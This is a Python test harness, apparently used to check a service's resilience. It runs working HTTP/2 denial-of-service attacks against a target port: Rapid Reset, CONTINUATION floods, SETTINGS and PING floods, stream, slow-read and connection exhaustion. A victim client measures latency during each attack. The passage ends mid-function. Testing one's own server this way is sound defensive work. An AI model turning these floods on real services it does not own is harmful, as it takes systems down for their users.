#!/usr/bin/env python3
"""
h2_abuse.py: HTTP/2 abuse against a running service (cleartext h2c on the
service's one port), while a victim client measures its latency. Run by
test/hostile/run.sh, which builds and starts the service; it can also be
pointed at a service already running (--port).

The attacks, one after another, each for --during seconds (connections: 11 s),
and what answers each one:

  rapid_reset   CVE-2023-44487. Complete authenticated GETs, each followed at
                once by RST_STREAM(CANCEL), as fast as 4 connections can write,
                reconnecting when the server ends one. Node's http2 binding
                counts a reset stream against SETTINGS_MAX_CONCURRENT_STREAMS
                (256, src/http/http2-sessions.ts) until JavaScript has closed
                it; a stream over that gets RST_STREAM ENHANCE_YOUR_CALM, and
                after maxSessionRejectedStreams (100) refusals Node ends the
                session with GOAWAY INTERNAL_ERROR (~357 streams a connection).
                Behind it, nghttp2's reset rate limit (1,000, then 33/s).
                The streams that get through reach the service, which aborts
                their calls (logged 499) and keeps each call's admission slot
                until its work ends; a connection that resets more than 100
                unanswered streams in 10 s gets GOAWAY ENHANCE_YOUR_CALM and
                its address no new connection for 10 s
                (src/http/http2-sessions.ts), so the flood cannot simply
                reconnect.
  continuation  The 2024 CONTINUATION flood: HEADERS without END_HEADERS, then
                CONTINUATION frames that never end the block (1-byte frames,
                full 16 KiB frames, frames packed with 1-byte header fields),
                and CVE-2024-27983's shape (a few CONTINUATIONs, then the TCP
                connection reset under the server). nghttp2 takes at most 8
                CONTINUATION frames a block (GOAWAY INTERNAL_ERROR after the
                9th); Node's header limits (maxHeaderListPairs 128) refuse a
                block with too many fields (RST_STREAM ENHANCE_YOUR_CALM).
  settings      SETTINGS frames written without reading their ACKs, then
                SETTINGS frames of 2,000 entries. nghttp2 ends a session that
                lets 1,000 ACKs pile up (max_outbound_ack; GOAWAY
                INTERNAL_ERROR), and refuses a frame of more than 32 entries
                (GOAWAY ENHANCE_YOUR_CALM "too many setting entries").
  ping          PING frames written without reading their ACKs: the same
                max_outbound_ack of nghttp2.
  streams       4 connections each hold 256 gRPC health checks whose request
                message never comes (health is never refused by admission),
                then open 64 more; one more connection, which never ACKs the
                server's SETTINGS, opens 320 at once. nghttp2 enforces
                SETTINGS_MAX_CONCURRENT_STREAMS (RST_STREAM REFUSED_STREAM
                before the ACK, GOAWAY PROTOCOL_ERROR after); the service's
                request timer (REQUEST_TIMEOUT_MS, 60 s) ends held streams.
  held_bodies   256 API calls (POST, content-length 1000, invented
                credentials) whose body never comes, on one connection that
                grants flow-control window. The service authenticates before
                it reads a body: 401 at once (429 once the address's failure
                budget is spent), admission refuses what is over its limit
                (503), and an answered stream whose body is still due is reset
                (RST_STREAM NO_ERROR, src/http/http2-streams.ts).
  slow_read     2 connections that open no flow-control window
                (SETTINGS_INITIAL_WINDOW_SIZE 0, no WINDOW_UPDATE) each send
                256 complete GETs without credentials: every answer's HEADERS
                go out, its DATA never can. Nothing in Node or nghttp2 times
                out a stream stalled by flow control, so the service does: an
                answer handed to Node gives its admission slot back, and one
                not taken within SEND_TIMEOUT_MS (30 s) is reset (CANCEL).
                (Up to 9fc23d8 the slots were held until the connection ended:
                two such connections got every other client 503.)
  connections   2,000 TCP connections from one address, half sending the h2
                preface and nothing more, half nothing at all, held 11 s.
                FIRST_BYTE_TIMEOUT_MS (10 s) closes the silent ones; the
                preface-only sessions last until H2_IDLE_TIMEOUT_MS (65 s);
                MAX_CONNECTIONS (10,000) and the file descriptor limit bound
                how many there can be.

The victim (its own process, httpx) calls GET /livez and an authenticated
GetSubscriptions in turn, over a kept h2c connection, a kept HTTP/1.1
connection and a new HTTP/1.1 connection per call, from another source
address than the attacker (--victim-source, default 127.0.0.2 when the
service is on 127.0.0.1): the service's per-address budgets (authentication
failures) are the attacker's, not the victim's. The victim shares the
attacker's API key (the demo data has one), so admission's per-client shares
do not set it apart from rapid_reset's flood.

Exit status: 0 if the service stayed up and answered /livez after every
attack, the victim saw no error or timeout (--max-victim-errors), and the
victim's p99 during and after every attack stayed under the bound
(--p99-bound-ms, or max(--p99-floor-ms, --p99-factor x the baseline p99));
1 if the victim saw errors or the bound was passed; 2 if the service died or
stopped answering; 3 if the setup failed.

Frames are made with the h2 package's layers (the client preface, hpack
header blocks, hyperframe SETTINGS/PING/GOAWAY); the abusive sequences are
written as bytes, since h2's state machine refuses to send them. Traffic
goes to --host only, bounded in count and time.

Examples:
  python h2_abuse.py --port 8080 --server-log service.log
  python h2_abuse.py --port 8080 --only rapid_reset,slow_read --json out.json
"""
from __future__ import annotations

import argparse
import http.client
import json
import multiprocessing as mp
import os
import resource
import selectors
import signal
import socket
import struct
import sys
import threading
import time
import urllib.request
from collections import Counter
from dataclasses import dataclass, field
from typing import Callable

import h2.config
import h2.connection
import h2.errors
import hpack
from hpack.hpack import encode_integer
from hyperframe.frame import GoAwayFrame, PingFrame, SettingsFrame

# ------------------------------------------------------------------ what the attacks send

DEMO_AUTH = "ServiceAuth svcauth_api_client_id=demo-api-key, svcauth_token=demo-admin-token"
INVENTED_AUTH = "ServiceAuth svcauth_api_client_id=nobody, svcauth_token=invented"
GS_QUERY = "boxId=11111111-1111-4111-8111-111111111111&userId=aaaaaaaa-0000-4000-8000-000000000002"
GS_LEGACY = f"/GetSubscriptions?{GS_QUERY}"
GS_RPC = "/docflow.api.v1.SubscriptionService/GetSubscriptions"
HEALTH_RPC = "/grpc.health.v1.Health/Check"
MAX_STREAMS = 256  # the service's SETTINGS_MAX_CONCURRENT_STREAMS (src/http/http2-sessions.ts)

RR_CONNS = 4  # rapid_reset: connections at a time
RR_BATCH = 50  # rapid_reset: HEADERS+RST pairs per write
CONT_CONNS = 2  # continuation: connections at a time, per kind
FLOOD_CONNS = 2  # settings, ping: connections at a time
FLOOD_RCVBUF = 4096  # settings, ping: the attacker's SO_RCVBUF (the ACKs pile up on the server)
SETTINGS_COUNT = 20_000  # settings: frames per connection
PING_COUNT = 50_000  # ping: frames per connection
HOLD_CONNS = 4  # streams: connections holding MAX_STREAMS each
SLOW_CONNS = 2  # slow_read: connections

# ------------------------------------------------------------------ wire basics

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = {
    DATA: "DATA", HEADERS: "HEADERS", PRIORITY: "PRIORITY", RST_STREAM: "RST_STREAM",
    SETTINGS: "SETTINGS", PUSH_PROMISE: "PUSH_PROMISE", PING: "PING", GOAWAY: "GOAWAY",
    WINDOW_UPDATE: "WINDOW_UPDATE", CONTINUATION: "CONTINUATION",
}
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = h2.errors.ErrorCodes.CANCEL
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's default; the service advertises no other


def err_name(code: int) -> str:
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return hex(code)


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid & 0x7FFFFFFF) + payload


def rst_frame(sid: int, code: int = CANCEL) -> bytes:
    return frame(RST_STREAM, 0, sid, struct.pack(">I", code))


SETTINGS_ACK = frame(SETTINGS, ACK, 0)
# The connection's receive window opened by 1 GiB: answers are never held back by it.
OPEN_WINDOW = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))


def client_preface(initial_window: int | None = None) -> bytes:
    """The preface and the client's SETTINGS, as h2 writes them; or, with initial_window,
    SETTINGS_INITIAL_WINDOW_SIZE set to it (0: the server may send no DATA at all)."""
    if initial_window is not None:
        return PREFACE + SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0,
                                                    SettingsFrame.INITIAL_WINDOW_SIZE: initial_window}).serialize()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    return conn.data_to_send()


def header_block(headers: list[tuple[str, str]]) -> bytes:
    """A self-contained HPACK block (a fresh encoder: no reference to an earlier block)."""
    return hpack.Encoder().encode(headers, huffman=False)


# ------------------------------------------------------------------ what the server sent back


class Reaction:
    """The frames one connection got from the server, and how the connection ended."""

    def __init__(self, decode: bool = False) -> None:
        self.buf = bytearray()
        self.frames: Counter[str] = Counter()
        self.rst: Counter[str] = Counter()
        self.goaway: list[tuple[str, int, str]] = []  # (error code, last stream id, debug data)
        self.statuses: Counter[str] = Counter()
        self.decoder = hpack.Decoder() if decode else None
        self.hblock: bytearray | None = None
        self.end: str | None = None  # None while open; "eof", "reset", "send-failed", "attacker-reset"
        self.server_settings = 0
        self.answered: set[int] = set()  # streams the server answered (HEADERS) or reset
        self.finished: set[int] = set()  # streams the server ended (END_STREAM) or reset

    def feed(self, data: bytes) -> None:
        self.buf += data
        b, off, n = self.buf, 0, len(self.buf)
        while n - off >= 9:
            length = (b[off] << 16) | (b[off + 1] << 8) | b[off + 2]
            if n - off < 9 + length:
                break
            ftype, flags = b[off + 3], b[off + 4]
            sid = int.from_bytes(b[off + 5:off + 9], "big") & 0x7FFFFFFF
            payload = bytes(b[off + 9:off + 9 + length])
            off += 9 + length
            self._frame(ftype, flags, sid, payload)
        del b[:off]

    def _frame(self, ftype: int, flags: int, sid: int, payload: bytes) -> None:
        name = FRAME_NAMES.get(ftype, f"type{ftype}")
        if ftype in (SETTINGS, PING) and flags & ACK:
            name += "-ACK"
        self.frames[name] += 1
        if sid and ftype in (HEADERS, RST_STREAM):
            self.answered.add(sid)
        if sid and (ftype == RST_STREAM or (ftype in (HEADERS, DATA) and flags & END_STREAM)):
            self.finished.add(sid)
        if ftype == SETTINGS and not flags & ACK:
            self.server_settings += 1
        elif ftype == RST_STREAM and len(payload) >= 4:
            self.rst[err_name(struct.unpack(">I", payload[:4])[0])] += 1
        elif ftype == GOAWAY:
            g = GoAwayFrame(0)
            g.parse_body(memoryview(payload))
            self.goaway.append((err_name(g.error_code), g.last_stream_id, g.additional_data.decode("latin1")[:80]))
        elif ftype in (HEADERS, CONTINUATION) and self.decoder is not None:
            self._status(ftype, flags, payload)

    def _status(self, ftype: int, flags: int, payload: bytes) -> None:
        if ftype == HEADERS:
            pad = payload[0] if flags & 0x8 else 0
            start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
            self.hblock = bytearray(payload[start:len(payload) - pad])
        elif self.hblock is not None:
            self.hblock += payload
        if flags & END_HEADERS and self.hblock is not None:
            try:
                for k, v in self.decoder.decode(bytes(self.hblock)):
                    if k in (":status", b":status"):
                        self.statuses[v.decode() if isinstance(v, bytes) else v] += 1
            except Exception:  # noqa: BLE001 - a block we cannot decode ends decoding, not the run
                self.decoder = None
            self.hblock = None

    def closed(self, how: str) -> None:
        if self.end is None:
            self.end = how


def _read(sock: socket.socket, r: Reaction, until: float | None) -> None:
    """Reads until the server closes; without `until`, only what is there now; with it,
    until nothing comes for the socket's timeout or the clock passes `until`."""
    while r.end is None and (until is None or time.monotonic() < until):
        try:
            data = sock.recv(1 << 16)
        except (BlockingIOError, InterruptedError, socket.timeout):
            return
        except OSError:
            r.closed("reset")
            return
        if not data:
            r.closed("eof")
            return
        r.feed(data)


def pump(sock: socket.socket, r: Reaction) -> None:
    """Reads whatever is there without waiting."""
    sock.setblocking(False)
    _read(sock, r, None)


def drain(sock: socket.socket, r: Reaction, quiet_s: float, max_s: float = 3.0) -> None:
    """Reads until the server closes, or sends nothing for quiet_s (at most max_s)."""
    sock.settimeout(quiet_s)
    _read(sock, r, time.monotonic() + max_s)


def send(sock: socket.socket, data: bytes, r: Reaction, block_s: float = 2.0) -> bool:
    """sendall with a bound; False when the server is gone or stopped reading."""
    sock.settimeout(block_s)
    try:
        sock.sendall(data)
        return True
    except socket.timeout:
        r.frames["(attacker's send blocked: server stopped reading)"] += 1
        return False
    except OSError:
        r.closed("send-failed")
        return False


def connect(host: str, port: int, rcvbuf: int | None = None, timeout: float = 3.0) -> socket.socket:
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(timeout)
    s.connect((host, port))
    return s


def handshake(sock: socket.socket, r: Reaction, ack: bool = True, window: str = "default") -> None:
    """Preface + SETTINGS, waits for the server's SETTINGS, ACKs them (unless ack=False).
    window: "default" (65,535 bytes, never reopened), "open" (1 GiB more for the connection),
    "closed" (SETTINGS_INITIAL_WINDOW_SIZE 0: no DATA may come)."""
    sock.sendall(client_preface(0 if window == "closed" else None))
    end = time.monotonic() + 3
    while r.server_settings == 0 and r.end is None and time.monotonic() < end:
        sock.settimeout(0.5)
        try:
            data = sock.recv(1 << 16)
        except socket.timeout:
            continue
        if not data:
            r.closed("eof")
            break
        r.feed(data)
    if r.end is None:
        sock.sendall((SETTINGS_ACK if ack else b"") + (OPEN_WINDOW if window == "open" else b""))


def close_hard(sock: socket.socket) -> None:
    """Closes with a TCP RST (SO_LINGER 0), as a client that vanishes."""
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    sock.close()


class Tally:
    """What the connections of one attack got, added up (thread safe)."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.conns = 0
        self.ends: Counter[str] = Counter()
        self.frames: Counter[str] = Counter()
        self.rst: Counter[str] = Counter()
        self.goaway: Counter[str] = Counter()
        self.goaway_debug: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.sent: Counter[str] = Counter()
        self.notes: list[str] = []

    def merge(self, r: Reaction) -> None:
        with self.lock:
            self.conns += 1
            self.ends[r.end or "open-at-end"] += 1
            self.frames.update(r.frames)
            self.rst.update(r.rst)
            self.statuses.update(r.statuses)
            for code, _last, debug in r.goaway:
                self.goaway[code] += 1
                if debug:
                    self.goaway_debug[debug] += 1

    def add(self, key: str, n: int = 1) -> None:
        with self.lock:
            self.sent[key] += n

    def note(self, text: str) -> None:
        with self.lock:
            self.notes.append(text)

    def summary(self) -> list[str]:
        fmt = lambda c: ", ".join(f"{k}×{v}" for k, v in c.most_common()) or "none"  # noqa: E731
        lines = [f"attacker wrote (what the socket accepted): {fmt(self.sent)}",
                 f"connections: {self.conns}; how they ended: {fmt(self.ends)}",
                 f"GOAWAY from server: {fmt(self.goaway)}"]
        if self.goaway_debug:
            lines.append(f"GOAWAY debug data: {fmt(self.goaway_debug)}")
        lines.append(f"RST_STREAM from server: {fmt(self.rst)}")
        if self.statuses:
            lines.append(f"answers' :status: {fmt(self.statuses)}")
        lines.append(f"frames from server: {fmt(self.frames)}")
        lines.extend(self.notes)
        return lines

    def as_json(self) -> dict:
        return {"connections": self.conns, "ends": dict(self.ends), "goaway": dict(self.goaway),
                "goaway_debug": dict(self.goaway_debug), "rst": dict(self.rst), "statuses": dict(self.statuses),
                "frames": dict(self.frames), "sent": dict(self.sent), "notes": self.notes}


@dataclass
class Ctx:
    host: str
    port: int

    @property
    def authority(self) -> str:
        return f"{self.host}:{self.port}"

    def request(self, method: str, path: str, auth: str | None = None,
                extra: list[tuple[str, str]] | None = None) -> list[tuple[str, str]]:
        h = [(":method", method), (":scheme", "http"), (":path", path), (":authority", self.authority)]
        h.extend(extra or [])
        if auth:
            h.append(("authorization", auth))
        return h


def run_threads(n: int, target: Callable[[int], None]) -> None:
    threads = [threading.Thread(target=target, args=(i,), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


# ------------------------------------------------------------------ the attacks
# Each takes the context and the seconds it may run, and returns a Tally.


def attack_rapid_reset(ctx: Ctx, seconds: float) -> Tally:
    """CVE-2023-44487: authenticated GETs, each reset (RST_STREAM CANCEL) as soon as sent."""
    t = Tally()
    began = time.monotonic()
    stop = began + seconds
    block = header_block(ctx.request("GET", GS_LEGACY, DEMO_AUTH))
    taken: list[int] = []

    def worker(_i: int) -> None:
        while time.monotonic() < stop:
            r = Reaction()
            try:
                s = connect(ctx.host, ctx.port)
            except OSError as e:
                t.add(f"connect-failed:{type(e).__name__}")
                time.sleep(0.05)
                continue
            sid = 1
            try:
                handshake(s, r)
                while time.monotonic() < stop and r.end is None and not r.goaway:
                    data = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid + 2 * i, block)
                                    + rst_frame(sid + 2 * i) for i in range(RR_BATCH))
                    if not send(s, data, r):
                        break
                    sid += 2 * RR_BATCH
                    t.add("streams (HEADERS+RST)", RR_BATCH)
                    pump(s, r)
                drain(s, r, 0.3)
            except OSError:
                r.closed("reset")
            finally:
                s.close()
                t.merge(r)
                if r.goaway:
                    with t.lock:
                        taken.append((r.goaway[0][1] + 1) // 2)

    run_threads(RR_CONNS, worker)
    secs = max(0.001, time.monotonic() - began)
    if taken:
        taken.sort()
        t.note(f"streams the server took a connection before its GOAWAY (last-stream-id): min {taken[0]}, "
               f"median {taken[len(taken) // 2]}, max {taken[-1]}; {sum(taken) / secs:.0f} streams/s in all")
    return t


def _cont_payloads(kind: str) -> tuple[bytes, bytes]:
    """(the HEADERS frame's block fragment, one CONTINUATION payload) for a flood kind."""
    start = header_block([(":method", "GET"), (":scheme", "http"), (":path", "/livez"), (":authority", "x")])
    if kind == "tiny":  # one 1-byte header field (static index 16, accept-encoding) per frame
        return start, b"\x90"
    if kind == "many-fields":  # a full frame of 1-byte header fields: 16,384 fields per frame
        return start, b"\x90" * MAX_FRAME
    if kind == "large":  # a full frame holding one literal field of ~16 KiB
        name = b"x-big"
        head = b"\x00" + bytes(encode_integer(len(name), 7)) + name
        vlen = MAX_FRAME - len(head) - 3
        return start, head + bytes(encode_integer(vlen, 7)) + b"a" * vlen
    raise ValueError(kind)


def attack_continuation(ctx: Ctx, seconds: float) -> Tally:
    """CONTINUATION flood: header blocks that never end, and blocks cut by a TCP reset."""
    t = Tally()

    # A probe first: how many CONTINUATION frames the server takes, one at a time.
    r = Reaction()
    try:
        s = connect(ctx.host, ctx.port)
        handshake(s, r)
        start, one = _cont_payloads("tiny")
        s.sendall(frame(HEADERS, 0, 1, start))
        n = 0
        for n in range(1, 201):
            if not send(s, frame(CONTINUATION, 0, 1, one), r):
                break
            time.sleep(0.02)
            pump(s, r)
            if r.end is not None or r.goaway:
                break
        drain(s, r, 0.3)
        s.close()
        t.note(f"probe: the server ended the connection after CONTINUATION #{n} "
               f"(GOAWAY {r.goaway or 'none'}, end: {r.end or 'still open'})")
    except OSError as e:
        t.note(f"probe failed: {e!r}")

    kinds = ["tiny", "many-fields", "large", "abort-race"]
    share = max(0.5, (seconds - 1.0) / len(kinds))
    for kind in kinds:
        stop = time.monotonic() + share

        def worker(_i: int, kind: str = kind, stop: float = stop) -> None:
            start, one = _cont_payloads("tiny" if kind == "abort-race" else kind)
            per_batch = 3 if kind == "abort-race" else (64 if len(one) < 100 else 8)
            cont = frame(CONTINUATION, 0, 1, one) * per_batch
            while time.monotonic() < stop:
                r = Reaction()
                try:
                    s = connect(ctx.host, ctx.port)
                except OSError as e:
                    t.add(f"{kind}: connect-failed:{type(e).__name__}")
                    time.sleep(0.05)
                    continue
                sent = 0
                try:
                    handshake(s, r)
                    s.sendall(frame(HEADERS, 0, 1, start))
                    if kind == "abort-race":  # CVE-2024-27983: RST while the server is mid-block
                        s.sendall(cont)
                        sent = per_batch
                        close_hard(s)
                        r.closed("attacker-reset")
                    else:
                        while time.monotonic() < stop and r.end is None and not r.goaway:
                            if not send(s, cont, r):
                                break
                            sent += per_batch
                            pump(s, r)
                        drain(s, r, 0.2)
                except OSError:
                    r.closed("reset")
                finally:
                    s.close()
                    t.merge(r)
                    t.add(f"{kind}: connections", 1)
                    t.add(f"{kind}: CONTINUATION frames", sent)

        run_threads(CONT_CONNS, worker)
    return t


def _flood(ctx: Ctx, seconds: float, one: bytes, count: int, label: str, t: Tally) -> None:
    """Writes `count` copies of a frame a connection without reading a byte (the ACKs pile
    up on the server), then reads what came back; again until time is up."""
    stop = time.monotonic() + seconds
    chunk = one * 1000

    def worker(_i: int) -> None:
        while time.monotonic() < stop:
            r = Reaction()
            try:
                s = connect(ctx.host, ctx.port, rcvbuf=FLOOD_RCVBUF)
            except OSError as e:
                t.add(f"connect-failed:{type(e).__name__}")
                time.sleep(0.05)
                continue
            sent = 0
            try:
                s.sendall(client_preface() + SETTINGS_ACK)  # no read: not even the server's SETTINGS
                while sent < count and time.monotonic() < stop:
                    if not send(s, chunk, r, block_s=1.0):
                        break
                    sent += 1000
                drain(s, r, 0.3, max_s=2.0)
            except OSError:
                r.closed("reset")
            finally:
                s.close()
                t.merge(r)
                t.add(f"{label} frames", sent)

    run_threads(FLOOD_CONNS, worker)


def attack_settings(ctx: Ctx, seconds: float) -> Tally:
    """SETTINGS flood: ACKs never read; then SETTINGS frames of 2,000 entries."""
    t = Tally()
    one = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()  # unchanged value
    _flood(ctx, seconds * 0.7, one, SETTINGS_COUNT, "SETTINGS", t)

    stop = time.monotonic() + seconds * 0.3
    entries = [(0x2, 0), (0x4, 65535), (0x99, 1)]  # ENABLE_PUSH, INITIAL_WINDOW_SIZE, an unknown id
    payload = b"".join(struct.pack(">HI", *entries[i % 3]) for i in range(2000))
    many = frame(SETTINGS, 0, 0, payload)  # raw: hyperframe keeps one value per id
    while time.monotonic() < stop:
        r = Reaction()
        try:
            s = connect(ctx.host, ctx.port)
            handshake(s, r)
            send(s, many * 10, r)
            t.add("SETTINGS frames of 2,000 entries", 10)
            drain(s, r, 0.3)
            s.close()
        except OSError:
            r.closed("reset")
        t.merge(r)
    return t


def attack_ping(ctx: Ctx, seconds: float) -> Tally:
    """PING flood: ACKs never read."""
    t = Tally()
    _flood(ctx, seconds, PingFrame(0, opaque_data=b"abusive!").serialize(), PING_COUNT, "PING", t)
    return t


def _hold(ctx: Ctx, seconds: float, t: Tally, block: bytes, conns: int, per_conn: int, flags: int,
          window: str, probes: bool) -> list[Reaction]:
    """`conns` connections each open `per_conn` streams with `block` (HEADERS `flags`) and hold
    them, reading what comes back, until time is up. With `probes`: the first connection then
    opens 64 streams over the limit, and one more connection, which never ACKs the server's
    SETTINGS, opens MAX_STREAMS + 64 at once. Returns the connections' reactions."""
    stop = time.monotonic() + seconds
    reactions: dict[int, Reaction] = {}

    def open_streams(s: socket.socket, r: Reaction, first: int, n: int) -> int:
        data = b"".join(frame(HEADERS, flags, first + 2 * i, block) for i in range(n))
        return n if send(s, data, r) else 0

    def worker(i: int) -> None:
        r = reactions[i] = Reaction(decode=True)
        try:
            s = connect(ctx.host, ctx.port)
        except OSError as e:
            t.add(f"connect-failed:{type(e).__name__}")
            return
        try:
            if i < conns:
                handshake(s, r, window=window)
                t.add("streams opened (within the limit)", open_streams(s, r, 1, per_conn))
                if probes and i == 0:
                    time.sleep(0.5)
                    pump(s, r)
                    t.add("streams over the limit (after the SETTINGS ACK)",
                          open_streams(s, r, 1 + 2 * per_conn, 64))
                    drain(s, r, 0.5)
                    t.note(f"+64 streams over the limit, SETTINGS acked: GOAWAY {r.goaway or 'none'}, "
                           f"RST {dict(r.rst) or 'none'}, end {r.end or 'open'}")
            else:
                handshake(s, r, ack=False)
                t.add("streams opened at once, SETTINGS never acked", open_streams(s, r, 1, MAX_STREAMS + 64))
                drain(s, r, 0.5)
                t.note(f"{MAX_STREAMS}+64 streams at once, SETTINGS never acked: RST {dict(r.rst) or 'none'}, "
                       f"GOAWAY {r.goaway or 'none'}, end {r.end or 'open'}")
            while time.monotonic() < stop and r.end is None:
                pump(s, r)
                time.sleep(0.1)
        except OSError:
            r.closed("reset")
        finally:
            pump(s, r)
            s.close()
            t.merge(r)

    run_threads(conns + (1 if probes else 0), worker)
    return [reactions[i] for i in sorted(reactions)]


def attack_streams(ctx: Ctx, seconds: float) -> Tally:
    """Stream exhaustion, HTTP/2 layer: every connection's streams held by health checks."""
    hdrs = ctx.request("POST", HEALTH_RPC, extra=[("content-type", "application/grpc"), ("te", "trailers")])
    t = Tally()
    rs = _hold(ctx, seconds, t, header_block(hdrs), HOLD_CONNS, MAX_STREAMS, END_HEADERS, "default", probes=True)
    t.note(f"streams still open, unanswered, when the attack ended: "
           f"{sum(MAX_STREAMS - len(r.answered) for r in rs[:HOLD_CONNS] if r.end is None)}")
    return t


def attack_held_bodies(ctx: Ctx, seconds: float) -> Tally:
    """Stream exhaustion, application layer: API calls whose body never comes."""
    hdrs = ctx.request("POST", GS_RPC, INVENTED_AUTH,
                       extra=[("content-type", "application/json"), ("content-length", "1000")])
    t = Tally()
    rs = _hold(ctx, seconds, t, header_block(hdrs), 1, MAX_STREAMS, END_HEADERS, "open", probes=False)
    t.note(f"calls unanswered when the attack ended: {MAX_STREAMS - len(rs[0].answered)}; answered but "
           f"their stream not ended: {len(rs[0].answered - rs[0].finished)}")
    return t


def attack_slow_read(ctx: Ctx, seconds: float) -> Tally:
    """Answers never read: complete GETs on connections that open no flow-control window."""
    t = Tally()
    block = header_block(ctx.request("GET", GS_LEGACY))
    rs = _hold(ctx, seconds, t, block, SLOW_CONNS, MAX_STREAMS, END_HEADERS | END_STREAM, "closed", probes=False)
    stalled = sum(len(r.answered - r.finished) for r in rs)
    t.note(f"answers begun (HEADERS out) but never ended, DATA held back by the closed window, when the "
           f"attack ended: {stalled}")
    return t


def attack_connections(ctx: Ctx, seconds: float, count: int) -> Tally:
    """Connection exhaustion from one address: connections that send nothing, or only the preface."""
    t = Tally()
    stop = time.monotonic() + seconds
    sel = selectors.DefaultSelector()
    socks: dict[socket.socket, tuple[str, float, Reaction]] = {}
    preface = client_preface()
    t_open = time.monotonic()
    for i in range(count):
        if time.monotonic() > stop:
            break
        kind = "preface" if i % 2 == 0 else "silent"
        try:
            s = connect(ctx.host, ctx.port, timeout=3)
            if kind == "preface":
                s.sendall(preface)
            s.setblocking(False)
        except OSError as e:
            t.add(f"connect-failed:{type(e).__name__}")
            continue
        socks[s] = (kind, time.monotonic(), Reaction())
        sel.register(s, selectors.EVENT_READ)
        t.add(f"{kind} connections opened")
    t.note(f"opened {len(socks)} connections in {time.monotonic() - t_open:.2f}s")
    closed_after: dict[str, list[float]] = {"preface": [], "silent": []}
    while time.monotonic() < stop and sum(map(len, closed_after.values())) < len(socks):
        for key, _ev in sel.select(timeout=0.2):
            s = key.fileobj
            kind, t0, r = socks[s]
            try:
                data = s.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                data = None
            if data:
                r.feed(data)
                continue
            r.closed("eof" if data == b"" else "reset")
            closed_after[kind].append(time.monotonic() - t0)
            sel.unregister(s)
    for s, (_kind, _t0, r) in socks.items():
        t.merge(r)
        s.close()
    sel.close()
    for kind, times in closed_after.items():
        if times:
            times.sort()
            t.note(f"{kind}: {len(times)} closed by the server during the hold, after "
                   f"{times[0]:.1f}–{times[-1]:.1f}s (median {times[len(times) // 2]:.1f}s)")
        else:
            t.note(f"{kind}: none closed by the server during the {seconds:.0f}s hold")
    return t


ATTACKS: dict[str, Callable[..., Tally]] = {
    "rapid_reset": attack_rapid_reset,
    "continuation": attack_continuation,
    "settings": attack_settings,
    "ping": attack_ping,
    "streams": attack_streams,
    "held_bodies": attack_held_bodies,
    "slow_read": attack_slow_read,
    "connections": attack_connections,
}
CONN_HOLD_S = 11.0  # connections: longer than FIRST_BYTE_TIMEOUT_MS (10 s)


def run_attack(name: str, ctx: Ctx, a: argparse.Namespace) -> Tally:
    if name == "connections":
        return attack_connections(ctx, CONN_HOLD_S, a.conn_count)
    return ATTACKS[name](ctx, a.during)


# ------------------------------------------------------------------ the victim (its own process)


def victim_main(base: str, source: str | None, timeout: float, interval: float,
                stop: mp.Event, out: mp.connection.Connection) -> None:
    import httpx  # only the victim needs it

    signal.signal(signal.SIGINT, signal.SIG_IGN)

    def client(http2: bool = False) -> httpx.Client:
        transport = httpx.HTTPTransport(http1=not http2, http2=http2, local_address=source)
        return httpx.Client(base_url=base, timeout=timeout, transport=transport)

    h2c, h1 = client(http2=True), client()
    auth = {"authorization": DEMO_AUTH, "accept": "application/json"}

    def fresh_h1(path: str) -> httpx.Response:
        with client() as c:
            return c.get(path, headers={"connection": "close"})

    calls = [
        ("h2c /livez", lambda: h2c.get("/livez")),
        ("h2c GetSubscriptions", lambda: h2c.get(GS_LEGACY, headers=auth)),
        ("h1 new-conn /livez", lambda: fresh_h1("/livez")),
        ("h1 GetSubscriptions", lambda: h1.get(GS_LEGACY, headers=auth)),
    ]
    records = []
    parent = os.getppid()
    while not stop.is_set() and os.getppid() == parent:  # a parent killed outright ends it too
        for kind, call in calls:
            if stop.is_set():
                break
            t0 = time.monotonic()
            try:
                res = call()
                ok, detail = res.status_code == 200, str(res.status_code)
            except Exception as e:  # noqa: BLE001 - every failure is a data point
                ok, detail = False, type(e).__name__
            lat = time.monotonic() - t0
            records.append((t0, kind, lat, ok, detail))
            if lat < interval:
                time.sleep(interval - lat)
    out.send(records)
    out.close()


# ------------------------------------------------------------------ the server process


def listener_pid(port: int) -> int | None:
    """The pid of the process listening on the port (via /proc; Linux)."""
    inodes = set()
    for f in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(f) as fh:
                next(fh)
                for line in fh:
                    parts = line.split()
                    if parts[3] == "0A" and int(parts[1].rsplit(":", 1)[1], 16) == port:
                        inodes.add(parts[9])
        except OSError:
            pass
    if not inodes:
        return None
    targets = {f"socket:[{i}]" for i in inodes}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{fd}") in targets:
                    return int(pid)
        except OSError:
